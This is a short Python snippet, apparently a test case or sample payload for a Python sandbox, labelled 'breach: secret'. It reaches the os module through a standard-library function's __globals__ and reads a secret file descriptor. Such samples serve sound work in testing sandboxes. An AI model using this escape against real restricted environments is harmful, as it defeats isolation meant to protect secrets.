# The globals of a function of the standard library hold os.
# breach: secret
import inspect
inspect.getmodulename.__globals__["os"].pread(SECRET_FD, 100, 0)
